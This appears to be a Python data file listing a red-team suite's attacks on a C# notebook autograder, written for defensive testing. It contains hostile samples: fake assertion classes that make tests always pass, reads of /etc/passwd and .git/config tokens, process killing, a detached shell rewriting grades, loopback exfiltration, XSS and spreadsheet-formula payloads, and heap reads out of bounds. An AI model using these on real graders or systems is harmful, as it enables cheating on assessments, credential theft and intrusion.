"""The red-team suite's attacks, as data (see make_attacks.py). Kinds, as in issue 9:
binding (tests bind to the student's names), allow-list (what graded code may call), sandbox (the worker's
rights), parent (the grader trusts its input), outputs (reports carry the student's payload)."""

HONEST = ["honest-ann", "honest-zoe"]

STUB_ADOPTED = '''static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year)
{
    // YOUR CODE HERE
    throw new NotImplementedException();
}'''

# Answers that compute nothing: with a fake Check they would pass every visible and hidden check.
ADOPTED_TRUE = "static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year) => true;"
EMPTY_ANSWERS = {
    "top-vetoer-answer": "static PermanentMember TopVetoer(int decade) => default;",
    "replay-answer": "static (int StillBlocked, int WouldPass) DoubleVetoReplay(int fromYear, int toYear) => default;",
}

ATTACKS = {
    # ---- binding: tests must see the instructor's world --------------------------------------------------
    "b01-fake-check-class": {
        "kind": "binding",
        "what": "Declares its own static class Check whose That and Equal never throw, so every Check in the tests "
                "(and every hidden check) would call the student's class.",
        "replace": {"adopted-answer": '''static class Check
{
    public static void That(bool condition, string message) { }
    public static void Equal<T>(T expected, T actual, string what) { }
}

''' + ADOPTED_TRUE, **EMPTY_ANSWERS},
    },
    "b02-using-alias-check": {
        "kind": "binding",
        "what": "A using alias makes the name Check mean a class of the student's.",
        "replace": {"adopted-answer": '''using Check = Lenient;

static class Lenient
{
    public static void That(bool condition, string message) { }
    public static void Equal<T>(T expected, T actual, string what) { }
}

''' + ADOPTED_TRUE, **EMPTY_ANSWERS},
    },
    "b03-redeclared-library-enum": {
        "kind": "binding",
        "what": "Re-declares the library's PermanentMember enum with every member equal to 0, so that any answer equals "
                "any expected member.",
        "replace": {"top-vetoer-answer": '''enum PermanentMember { SovietUnion = 0, UnitedStates = 0, Russia = 0, France = 0, China = 0, UnitedKingdom = 0 }

static PermanentMember TopVetoer(int decade) => default;'''},
    },
    "b04-implicit-bool-conversion": {
        "kind": "binding",
        "what": "The answer returns a struct that converts to true and whose ! operator returns itself, so both "
                "Check.That(Adopted(...)) and Check.That(!Adopted(...)) pass.",
        "replace": {"adopted-answer": '''struct Always
{
    public static implicit operator bool(Always a) => true;
    public static Always operator !(Always a) => a;
}

static Always Adopted(VoteTally tally, bool permanentMemberVotedNo, int year) => default;'''},
    },
    "b05-equals-always-true": {
        "kind": "binding",
        "what": "The answer returns a type with an implicit conversion from int and from a tuple and an Equals that is "
                "always true, so Check.Equal compares with the student's Equals.",
        "replace": {"replay-answer": '''sealed class Anything
{
    public Anything StillBlocked => this;
    public Anything WouldPass => this;
    public static implicit operator Anything(int value) => new();
    public static implicit operator Anything((int, int) value) => new();
    public override bool Equals(object? other) => true;
    public override int GetHashCode() => 0;
}

static Anything DoubleVetoReplay(int fromYear, int toYear) => new();'''},
    },
    "b06-operator-not-equal": {
        "kind": "binding",
        "what": "The answer returns a type whose != is always false, so 'if (VetoesCastBy(x) != 16) throw' never throws.",
        "replace": {"count-answer": '''readonly struct Count
{
    public static bool operator !=(Count a, int b) => false;
    public static bool operator ==(Count a, int b) => true;
    public override bool Equals(object? other) => true;
    public override int GetHashCode() => 0;
}

static Count VetoesCastBy(PermanentMember member) => default;'''},
    },
    "b07-shadowed-instructor-variable": {
        "kind": "binding",
        "what": "Re-declares the locked cell's variable resolution678 so that the visible test reads the student's "
                "value instead of the instructor's.",
        "replace": {"adopted-answer": '''var resolution678 = new VoteTally(0, 0, 0);

static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year) => tally.Yes == 0 || year == 1960;'''},
    },
    "b08-redeclared-library-record": {
        "kind": "binding",
        "what": "Declares its own VoteTally record, so the tests construct the student's type and call its members.",
        "replace": {"adopted-answer": '''record VoteTally(int Yes, int No, int Abstain)
{
    public bool Passes => true;
}

static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year) => true;'''},
    },
    "b09-signature-differs": {
        "kind": "binding",
        "what": "An answer whose signature differs from the exercise's (a long year): refused for that exercise with "
                "the name and cell, the other exercises still graded.",
        "replace": {"adopted-answer": '''static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, long year)
{
    var required = year > 1965 ? 9 : 7;
    return !permanentMemberVotedNo && tally.Yes >= required;
}'''},
    },
    "b10-fake-check-in-added-cell": {
        "kind": "binding",
        "what": "The fake assertion class sits in a cell the student added after the setup cell, not in an answer cell.",
        "add_after": {"setup": ['''static class Check
{
    public static void That(bool condition, string message) { }
    public static void Equal<T>(T expected, T actual, string what) { }
}''']},
        "replace": {"adopted-answer": ADOPTED_TRUE, **EMPTY_ANSWERS},
    },
    "b11-wider-parameter-overload": {
        "kind": "binding",
        "what": "Declares TopVetoer with a long parameter (the test's int converts to it) returning a constant: the "
                "signature is not the exercise's, so the test is refused rather than run against it.",
        "replace": {"top-vetoer-answer": '''static class Fake
{
    public static PermanentMember TopVetoer(int decade) => PermanentMember.SovietUnion;
}

static PermanentMember TopVetoer(long decade) => PermanentMember.SovietUnion;'''},
    },
}


def in_answer(body, answer="top-vetoer-answer"):
    """An attack written into an answer cell: the forbidden code runs when the answer is called."""
    signature = {
        "top-vetoer-answer": "static PermanentMember TopVetoer(int decade)",
        "adopted-answer": "static bool Adopted(VoteTally tally, bool permanentMemberVotedNo, int year)",
    }[answer]
    result = "default" if answer == "top-vetoer-answer" else "true"
    indented = "\n".join("    " + line if line else line for line in body.strip("\n").split("\n"))
    return {answer: f"{signature}\n{{\n{indented}\n    return {result};\n}}"}


def before_answer(declarations, body, answer="top-vetoer-answer"):
    """Declarations (classes, usings) before the answer, then the answer that uses them."""
    replaced = in_answer(body, answer)
    return {answer: declarations.strip("\n") + "\n\n" + replaced[answer]}


def allow(name, what, replace):
    ATTACKS[name] = {"kind": "allow-list", "what": what, "replace": replace}


allow("a01-filestream-subclass-base-call",
      "A FileStream subclass whose constructor calls base(path, ...), so no file API is named at the call site.",
      before_answer("class Leak : System.IO.FileStream\n{\n    public Leak() : base(\"/etc/passwd\", System.IO.FileMode.Open) { }\n}",
                    "using var leak = new Leak();\nConsole.WriteLine(leak.Length);"))
allow("a02-filesystem-enumerator-subclass",
      "A FileSystemEnumerator<T> subclass lists the root folder without calling Directory.",
      before_answer("class Lister : System.IO.Enumeration.FileSystemEnumerator<string>\n{\n    public Lister() : base(\"/\") { }\n"
                    "    protected override string TransformEntry(ref System.IO.Enumeration.FileSystemEntry entry) => entry.ToFullPath();\n}",
                    "using var lister = new Lister();\nwhile (lister.MoveNext()) Console.WriteLine(lister.Current);"))
allow("a03-search-pattern-climbs-out",
      "A constant relative folder with a search pattern holding '..' lists the grader's folders.",
      in_answer("foreach (var f in System.IO.Directory.GetFiles(\".\", \"../../*\")) Console.WriteLine(f);"))
allow("a04-expression-tree-reaches-type-gettype",
      "Builds an expression tree calling Type.GetType by name (no reflection API named), compiles it and gets Process.",
      in_answer("var p = System.Linq.Expressions.Expression.Parameter(typeof(string));\n"
                "var call = System.Linq.Expressions.Expression.Call(typeof(Type), \"GetType\", null, p);\n"
                "var find = System.Linq.Expressions.Expression.Lambda<Func<string, Type>>(call, p).Compile();\n"
                "Console.WriteLine(find(\"System.Diagnostics.Process, System.Diagnostics.Process\"));"))
allow("a05-lambda-converted-to-expression-tree",
      "A lambda converted to Expression<Func<...>> and compiled: code generation without naming Reflection.Emit.",
      in_answer("System.Linq.Expressions.Expression<Func<int, int>> twice = x => x * 2;\nConsole.WriteLine(twice.Compile()(21));"))
allow("a06-xdocument-load-url",
      "XDocument.Load from a URL: the network without System.Net.",
      in_answer("var page = System.Xml.Linq.XDocument.Load(\"http://127.0.0.1:9/answers.xml\");"))
allow("a07-xdocument-save-path",
      "XDocument.Save to an absolute path: writing files without System.IO.",
      in_answer("new System.Xml.Linq.XDocument(new System.Xml.Linq.XElement(\"owned\")).Save(\"/tmp/owned.xml\");"))
allow("a08-library-figure-savehtml",
      "The course library's own Figure.SaveHtml writes a file anywhere.",
      in_answer("CollectiveSecurity.Charts.Chart.Bar(new[] { \"a\" }, new[] { 1 }).SaveHtml(\"/tmp/owned.html\");"))
allow("a09-library-plotly-inline-reads-file",
      "The course library's PlotlyScript.Inline reads any file into a script.",
      in_answer("Console.WriteLine(CollectiveSecurity.Charts.PlotlyScript.Inline(\"/etc/passwd\"));"))
allow("a10-environment-variables",
      "Reads the grader's environment.",
      in_answer("foreach (System.Collections.DictionaryEntry e in Environment.GetEnvironmentVariables()) Console.WriteLine(e.Key);"))
allow("a11-reflection-on-the-check-class",
      "Reflection over the assertion class (to find or patch what tests call).",
      in_answer("foreach (var m in typeof(CollectiveSecurity.Exercises.Check).GetMethods()) Console.WriteLine(m);"))
allow("a12-activator-creates-process",
      "Activator.CreateInstance on a type found by name.",
      in_answer("var process = Activator.CreateInstance(Type.GetType(\"System.Diagnostics.Process, System.Diagnostics.Process\")!);"))
allow("a13-raw-standard-output",
      "Opens the raw standard output to forge the grader's result frames.",
      in_answer("using var raw = Console.OpenStandardOutput();\nraw.Write(new byte[] { 1, 2, 3, 4 });"))
allow("a14-console-setout",
      "Replaces the console writer to reach the grader's channel.",
      in_answer("Console.SetOut(new System.IO.StringWriter());"))
allow("a15-unhandled-exception-hook",
      "Hooks AppDomain events to swallow the test's failures.",
      in_answer("AppDomain.CurrentDomain.UnhandledException += (s, e) => { };"))
allow("a16-marshal-reads-memory",
      "Reads process memory through Marshal.",
      in_answer("Console.WriteLine(System.Runtime.InteropServices.Marshal.ReadByte(new IntPtr(4096)));"))
allow("a17-dynamic-late-binding",
      "Late binding with dynamic hides every call from a compile-time check.",
      in_answer("dynamic console = typeof(Console);\nconsole.GetMethod(\"Beep\");"))
allow("a18-unsafe-pointers",
      "Unsafe code and pointers.",
      in_answer("unsafe { int value = 1; int* p = &value; *(p + 100) = 0; }"))
allow("a19-module-initializer",
      "A module initializer runs code when the cell's assembly loads.",
      before_answer("[System.Runtime.CompilerServices.ModuleInitializer]\ninternal static void Init() => Console.WriteLine(\"first\");",
                    "Console.WriteLine(\"x\");"))
allow("a20-nuget-reference",
      "Loads a NuGet package into graded code.",
      {"top-vetoer-answer": "#r \"nuget:Newtonsoft.Json, 13.0.1\"\nstatic PermanentMember TopVetoer(int decade) => default;"})
allow("a21-load-directive",
      "#load pulls in a file from outside the submission.",
      {"top-vetoer-answer": "#load \"../../instructor/veto-power.csx\"\nstatic PermanentMember TopVetoer(int decade) => default;"})
allow("a22-reference-other-assembly",
      "#r of a framework assembly that the policy does not allow.",
      {"top-vetoer-answer": "#r \"System.Diagnostics.Process.dll\"\nstatic PermanentMember TopVetoer(int decade) => default;"})
allow("a23-using-static-file",
      "using static System.IO.File, then ReadAllText with no type named at the call.",
      before_answer("using static System.IO.File;", "Console.WriteLine(ReadAllText(\"/etc/hostname\"));"))
allow("a24-method-group-to-delegate",
      "A file method taken as a method group into a delegate and called later.",
      in_answer("Func<string, string> read = System.IO.File.ReadAllText;\nConsole.WriteLine(read(\"/etc/hostname\"));"))
allow("a25-forbidden-generic-argument",
      "A forbidden type hidden in a generic argument.",
      in_answer("var files = new List<System.IO.FileInfo> { new(\"/etc/passwd\") };\nConsole.WriteLine(files[0].Length);"))
allow("a26-thread-with-own-stack",
      "Starts a raw thread that outlives the cell.",
      in_answer("new System.Threading.Thread(() => { while (true) { } }) { IsBackground = false }.Start();"))
allow("a27-stack-trace-snoop",
      "Reads the stack trace to tell visible checks from hidden ones.",
      in_answer("Console.WriteLine(Environment.StackTrace);"))
allow("a28-gc-and-process-facts",
      "Reads the process's memory facts and forces collections (the grader's business).",
      in_answer("Console.WriteLine(GC.GetGCMemoryInfo().TotalAvailableMemoryBytes);"))

allow("x01-vector-storeunsafe-grows-an-array",
      "System.Numerics.Vector.LoadUnsafe/StoreUnsafe (allowed with System.Numerics) read and write a whole vector at a "
      "single element's ref: 24 bytes past a long[1], over the next array's header, so that array's length becomes "
      "4000 and it reads (and could write) the worker's heap out of bounds; the answer cell prints what it read.",
      {"top-vetoer-answer": """static string Peek()
{
    var chars = new char[4000 * 4];
    var parts = new long[4];
    var a = new long[1];
    var b = new long[1];
    var v = System.Numerics.Vector.LoadUnsafe(ref a[0]);
    if (System.Numerics.Vector<long>.Count < 4) return "vectors of two longs: only 8 bytes past the array";
    v.CopyTo(parts);
    parts[3] = 4000;
    System.Numerics.Vector.StoreUnsafe(new System.Numerics.Vector<long>(parts), ref a[0]);
    var n = b.Length;
    for (var i = 1; i < n; i++) { var x = b[i]; for (var k = 0; k < 4; k++) { var ch = (char)((x >> (16 * k)) & 0xFFFF); chars[(i - 1) * 4 + k] = ch >= ' ' && ch < 127 ? ch : '.'; } }
    System.Numerics.Vector.StoreUnsafe(v, ref a[0]);
    return $"b.Length was {n}, now {b.Length}: " + new string(chars).Replace("....", "");
}
Console.WriteLine(Peek());
static PermanentMember TopVetoer(int decade) => default;"""})
allow("x02-vector4-loadunsafe-reads-past-a-float",
      "Vector4.LoadUnsafe and Vector.StoreUnsafe(Vector4, ref float) read and write 12 bytes past a float[1] "
      "(memory outside any array, with no unsafe code); the answer cell prints what it read.",
      {"top-vetoer-answer": """static string Peek()
{
    var a = new float[1];
    var b = new float[1];
    var v = System.Numerics.Vector4.LoadUnsafe(ref a[0]);
    System.Numerics.Vector.StoreUnsafe(new System.Numerics.Vector4(1, 2, 3, 4), ref a[0]);
    var seen = System.Numerics.Vector4.LoadUnsafe(ref a[0]);
    System.Numerics.Vector.StoreUnsafe(v, ref a[0]);
    return $"read past a[0]: {v}; after writing past it: {seen}";
}
Console.WriteLine(Peek());
static PermanentMember TopVetoer(int decade) => default;"""})

def sandbox(name, what, replace):
    ATTACKS[name] = {"kind": "sandbox", "what": what, "replace": replace}


sandbox("s01-read-own-environment-from-proc",
        "Reads /proc/self/environ and the parent's environment.",
        in_answer("Console.WriteLine(System.IO.File.ReadAllText(\"/proc/self/environ\"));\n"
                  "Console.WriteLine(System.IO.File.ReadAllText(\"/proc/1/environ\"));"))
sandbox("s02-read-git-config",
        "Reads the grader's .git/config (a token) by a relative path from the working folder.",
        in_answer("Console.WriteLine(System.IO.File.ReadAllText(\"../../../.git/config\"));"))
sandbox("s03-kill-the-grader",
        "Kills every process it can see, the grader first.",
        in_answer("foreach (var p in System.Diagnostics.Process.GetProcesses()) p.Kill();"))
sandbox("s04-detached-process-rewrites-grade",
        "Starts a detached shell that waits for the batch to end and rewrites its own results.",
        in_answer("System.Diagnostics.Process.Start(\"/bin/sh\", \"-c 'sleep 20; echo {} > ../../graded/s04/veto-power/results.json' &\");"))
sandbox("s05-write-into-other-workers",
        "Writes forged frames into other workers' standard output through /proc.",
        in_answer("foreach (var fd in System.IO.Directory.GetFiles(\"/proc\", \"1\", System.IO.SearchOption.AllDirectories)) System.IO.File.WriteAllText(fd, \"passed\");"))
sandbox("s06-network-exfiltration",
        "Sends the hidden tests to a server on loopback.",
        in_answer("using var client = new System.Net.Http.HttpClient();\nclient.GetStringAsync(\"http://127.0.0.1:9/\").Wait();"))
sandbox("s07-fill-the-disk",
        "Writes files until the disk is full.",
        in_answer("for (var i = 0; ; i++) System.IO.File.WriteAllBytes(\"fill\" + i, new byte[1 << 24]);"))
sandbox("s08-memory-bomb",
        "Allocates until the machine runs out of memory (only allowed APIs).",
        in_answer("var hoard = new List<byte[]>();\nwhile (true) hoard.Add(new byte[1 << 20]);"))
sandbox("s09-endless-loop",
        "Never returns (only allowed APIs).",
        in_answer("while (true) { }"))
sandbox("s10-task-flood",
        "Starts a thousand spinning tasks that keep running into the test cells (only allowed APIs).",
        in_answer("for (var i = 0; i < 1000; i++) Task.Run(() => { while (true) { } });"))
sandbox("s11-stack-overflow",
        "Endless recursion crashes the worker (only allowed APIs).",
        before_answer("static int Down(int n) => Down(n + 1) + 1;", "Console.WriteLine(Down(0));"))
sandbox("s12-print-flood",
        "Prints hundreds of megabytes (only allowed APIs).",
        in_answer("var line = new string('x', 1 << 20);\nfor (var i = 0; i < 500; i++) Console.WriteLine(line);"))
sandbox("s13-fake-result-frames",
        "Prints text that looks like the grader's frames and Gradescope results.",
        in_answer("Console.WriteLine(\"{\\\"score\\\": 8, \\\"status\\\": \\\"passed\\\"}\");\nConsole.Write(\"\\u0000\\u0000\\u0000\\u0010PASSED-PASSED\");"))
sandbox("s14-async-void-crash",
        "An async void method throws (on the cell's synchronization context, where an unhandled exception would "
        "kill the worker). It throws before its first await, so every run reports it at the same place.",
        before_answer("static async void Boom() { if (DateTime.Now.Year > 0) throw new InvalidOperationException(\"boom\"); await Task.Yield(); }",
                      "Boom();"))


def parent(name, what, **spec):
    ATTACKS[name] = {"kind": "parent", "what": what, **spec}


def set_kernel_name(value):
    def mutate(nb):
        nb["cells"][4]["metadata"]["polyglot_notebook"]["kernelName"] = value
        nb["cells"][2]["metadata"]["dotnet_interactive"] = {"language": {"evil": True}}
    return mutate


def many_cells(nb):
    nb["cells"].extend({"cell_type": "code", "execution_count": None, "id": f"c{i}", "metadata": {},
                        "outputs": [], "source": ["var x" + str(i) + " = " + str(i) + ";"]} for i in range(6000))


def huge_cell(nb):
    nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "huge", "metadata": {}, "outputs": [],
                        "source": ["// " + "x" * 200 + "\n" for _ in range(40000)]})


def deep_json():
    depth = 100000
    return '{"cells": [], "metadata": {"deep": ' + "[" * depth + "]" * depth + '}, "nbformat": 4, "nbformat_minor": 5}'


def wrong_types(nb):
    test = nb["cells"][5]["metadata"]["nbgrader"]
    test["points"] = "1000"
    test["grade"] = "yes"
    nb["cells"][3]["metadata"]["nbgrader"]["grade_id"] = {"$ne": None}
    nb["cells"][4]["source"] = 42


def cells_not_objects(nb):
    nb["cells"].extend([1, "two", None, [3]])


def fake_tests(nb):
    for i in range(3):
        nb["cells"].append({"cell_type": "code", "execution_count": None, "id": f"fake{i}",
                            "metadata": {"nbgrader": {"grade": True, "grade_id": "adopted-tests", "locked": True,
                                                      "points": 1000, "schema_version": 3, "solution": False}},
                            "outputs": [], "source": ["// this test always passes"]})


def huge_outputs(nb):
    nb["cells"][4]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["y" * 1000 + "\n"] * 20000}]


OVERLOAD_BOMB = ("static int M(Func<int, int> f) => 0;\nstatic int M(Func<string, int> f) => 0;\n"
                 "static int M(Func<double, int> f) => 0;\nstatic int M(Func<long, int> f) => 0;\n"
                 "static int M(Func<char, int> f) => 0;\n"
                 "var bomb = M(a => M(b => M(c => M(d => M(e => M(f => M(g => M(h => M(i => M(j => 0))))))))));")

parent("p01-kernel-name-not-a-string",
       "metadata.polyglot_notebook.kernelName is a number and dotnet_interactive.language an object: crashed the batch once.",
       mutate=set_kernel_name(5))
parent("p02-six-thousand-cells",
       "6,000 tiny code cells: drove the grader to 24 GB once.", mutate=many_cells)
parent("p03-huge-cell-source",
       "One cell of 8 MB of comments (made when the suite runs).", generate="huge-cell 8000000")
parent("p04-deeply-nested-json",
       "JSON nested 100,000 levels deep.", notebook=deep_json())
parent("p05-overload-resolution-bomb",
       "Nested lambdas over overloaded methods: exponential overload resolution held the compile lock for minutes.",
       replace={"top-vetoer-answer": OVERLOAD_BOMB + "\nstatic PermanentMember TopVetoer(int decade) => default;"})
parent("p06-thousands-of-refused-lines",
       "Two thousand refused calls: quadratic de-duplication of violations held the grader.",
       replace={"top-vetoer-answer": "\n".join(["System.IO.File.Exists(\"x" + str(i) + "\");" for i in range(2000)])
                + "\nstatic PermanentMember TopVetoer(int decade) => default;"})
parent("p07-symlink-to-instructor-notebook",
       "The handed-in notebook is a symbolic link to the instructor's notebook (solutions included).",
       link="{source}")
parent("p08-symlinked-student-folder",
       "The student's folder is a symbolic link to a folder outside the submissions.",
       folder_link="{canary}")
parent("p09-notebook-is-a-folder",
       "veto-power.ipynb is a folder.", folder_notebook=True)
parent("p10-invalid-utf8",
       "Bytes that are not UTF-8, and a NUL.", notebook=b'{"cells": [\xff\xfe\x00], "nbformat": 4}')
parent("p11-metadata-of-wrong-types",
       "nbgrader metadata of the wrong types (points as a string, grade_id as an object, source as a number).",
       mutate=wrong_types)
parent("p12-cells-that-are-not-objects",
       "The cells list holds numbers, strings, null and arrays.", mutate=cells_not_objects)
parent("p13-fake-test-cells",
       "Three added cells claim the grade_id of a test, worth 1000 points, with a test that always passes.",
       mutate=fake_tests)
parent("p14-huge-outputs",
       "Forty megabytes of saved outputs in the notebook (made when the suite runs).", generate="huge-outputs 40000000")


def outputs(name, what, **spec):
    ATTACKS[name] = {"kind": "outputs", "what": what, **spec}


def markdown_cell(text):
    def mutate(nb):
        nb["cells"].insert(3, {"cell_type": "markdown", "id": "evil-md", "metadata": {}, "source": [text]})
    return mutate


outputs("o01-javascript-link",
        "A javascript: link in the student's markdown, live in feedback.html.",
        mutate=markdown_cell("[see my working](javascript:alert(document.cookie))"))
outputs("o02-remote-image",
        "A remote image in markdown: loaded (and tracked) when the instructor opens the feedback.",
        mutate=markdown_cell("![progress](http://127.0.0.1:9/track.png?student=o02)"))
outputs("o03-raw-html-script",
        "Raw HTML with a script and an onerror handler in markdown.",
        mutate=markdown_cell("<script>alert(1)</script><img src=x onerror=alert(2)><iframe src=\"http://127.0.0.1:9/\"></iframe>"))
outputs("o04-html-in-printed-output",
        "Prints HTML and displays raw HTML from the answer, hoping feedback renders it.",
        replace=in_answer("Console.WriteLine(\"<script>alert('out')</script>\");\ndisplay(HTML(\"<script>alert('html')</script>\"));"))
outputs("o05-data-uri-link",
        "A data: URI link that opens a page of the student's.",
        mutate=markdown_cell("[notes](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"))
outputs("o06-formula-student-id",
        "A student id that is a spreadsheet formula.", student_id="=SUM(1+1)*cmd|' -C calc'!A0")
outputs("o07-plus-and-at-ids",
        "A student id starting with + (a formula in most spreadsheets).", student_id="+1+cmd|' -C calc'!A0")
outputs("o08-console-markup-id",
        "A student id holding console markup (crashed the progress display once).", student_id="[red]ann[bold]x[[ [unclosed")
outputs("o09-terminal-escape-id",
        "A student id with terminal escapes that set the title and clear the screen.", student_id="zed\u001b]0;pwned\u0007\u001b[2J")
outputs("o10-newline-in-id",
        "A student id with a newline and a fake gradebook row.", student_id="mallory\nmallory,veto-power,8,8,graded")
outputs("o11-bidi-override-id",
        "A student id with a right-to-left override that disguises its text.", student_id="eve\u202egnp.exe")
outputs("o12-style-and-meta-refresh",
        "A style block and a meta refresh in markdown.",
        mutate=markdown_cell("<style>body{display:none}</style><meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.1:9/\">"))

outputs("x03-hidden-test-calls-printed-by-a-later-answer",
        "The answer records every call the tests make (passing the visible check so the hidden ones run), and a later "
        "answer cell prints them: the hidden tests' calls, TopVetoer(1980) and TopVetoer(2010), reach the feedback.",
        replace={"top-vetoer-answer": """static List<string> Seen = new();
static PermanentMember TopVetoer(int decade)
{
    Seen.Add($"TopVetoer({decade})");
    return decade == 1940 ? PermanentMember.SovietUnion : PermanentMember.UnitedStates;
}""",
                 "replay-answer": """foreach (var s in Seen) Console.WriteLine("the tests called " + s);
static (int StillBlocked, int WouldPass) DoubleVetoReplay(int fromYear, int toYear) => default;"""})

# Found by the lead after the attacker's x03: what a hidden check's failure says can carry the hidden inputs too.
VISIBLE_TOP_VETOER = "if (decade == 1940) return PermanentMember.SovietUnion;"
outputs("x04-exception-message-carries-hidden-input",
        "The answers pass the visible checks and throw, on any other input, an exception whose message names the "
        "call: a hidden check's failure message would read 'the tests called TopVetoer(2010)'.",
        replace={"top-vetoer-answer": """static PermanentMember TopVetoer(int decade)
{
    """ + VISIBLE_TOP_VETOER + """
    throw new Exception($"the tests called TopVetoer({decade})");
}""",
                 "count-answer": """static int VetoesCastBy(PermanentMember member)
{
    if (member == PermanentMember.France) return 16;
    throw new ArgumentException($"the tests called VetoesCastBy(PermanentMember.{member})");
}"""})
outputs("x05-own-exception-type-carries-hidden-input",
        "As x04 with an exception type of the student's own, whose name no list of framework types would know.",
        replace={"top-vetoer-answer": """sealed class Leak(string message) : Exception(message);

static PermanentMember TopVetoer(int decade)
{
    """ + VISIBLE_TOP_VETOER + """
    throw new Leak($"the tests called TopVetoer({decade})");
}"""})
outputs("x06-returned-value-carries-hidden-input",
        "The answer passes the visible check and returns its own inputs otherwise, so a failed hidden Check.Equal "
        "would say 'got 1989' and 'got (1930, 1940)'.",
        replace={"replay-answer": """static (int StillBlocked, int WouldPass) DoubleVetoReplay(int fromYear, int toYear) =>
    fromYear == 1946 && toYear == 2025 ? (40, 188) : (fromYear, toYear);"""})
outputs("x07-answer-raises-the-tests-own-failure",
        "The answer calls the tests' own Check (and builds a CheckFailedException) so that its message, naming the "
        "hidden call, would look like a test's own words.",
        replace={"top-vetoer-answer": """static PermanentMember TopVetoer(int decade)
{
    """ + VISIBLE_TOP_VETOER + """
    Check.That(false, $"the tests called TopVetoer({decade})");
    throw new CheckFailedException($"the tests called TopVetoer({decade})");
}"""})

# Found by attacker2: two more ways for a failure after hidden checks to carry hidden text.
QUALIFIED_MEMBER = "CollectiveSecurity.Organizations.PermanentMember"
outputs("x08-compile-error-quotes-hidden-check",
        "A cell after the answer declares a variable named PermanentMember whose type has only the members the "
        "visible checks use (SovietUnion, France): the hidden lines no longer compile, and the compiler's message "
        "would name their missing members ('UnitedStates', 'China'), the hidden checks' own source.",
        replace={"top-vetoer-answer": """static PermanentMember TopVetoer(int decade) => CourseData.Vetoes
    .Where(v => v.Year >= decade && v.Year < decade + 10).SelectMany(v => v.VetoedBy)
    .GroupBy(m => m).OrderByDescending(g => g.Count()).First().Key;""",
                 "count-answer": f"static int VetoesCastBy({QUALIFIED_MEMBER} member) => CourseData.Vetoes.Count(v => v.VetoedBy.Contains(member));"},
        add_after={"top-vetoer-answer": [f"""class Probe
{{
    public {QUALIFIED_MEMBER} SovietUnion => {QUALIFIED_MEMBER}.SovietUnion;
    public {QUALIFIED_MEMBER} France => {QUALIFIED_MEMBER}.France;
}}
var PermanentMember = new Probe();"""]})
outputs("x09-exception-type-name-carries-hidden-input",
        "The answer declares one exception type per decade and throws, for any input but the visible check's, the one "
        "named after its input: a hidden check's failure would be named 'Decade1980'.",
        replace={"top-vetoer-answer": "\n".join(f"class Decade{y} : Exception {{ }}" for y in range(1940, 2030, 10)) + """
static PermanentMember TopVetoer(int decade)
{
    """ + VISIBLE_TOP_VETOER + """
    throw decade switch
    {
""" + "\n".join(f"        {y} => new Decade{y}()," for y in range(1950, 2030, 10)) + """
        _ => new Exception(),
    };
}"""})
outputs("o13-zero-width-space-id",
        "A student id that is an honest student's plus a zero-width space: a second gradebook row that reads exactly "
        "like honest-ann's (bidirectional characters were escaped, invisible formatting characters were not).",
        student_id="honest-ann\u200b")
sandbox("x10-exception-message-getter-throws",
        "The answer throws an exception of its own whose Message getter throws in turn: reporting the error ran the "
        "getter unguarded and took the worker down (exit 134); now the cell fails with its error recorded and the worker lives on.",
        replace={"top-vetoer-answer": """sealed class Sly : Exception
{
    public override string Message => throw new InvalidOperationException("no message");
}

static PermanentMember TopVetoer(int decade) => throw new Sly();"""})
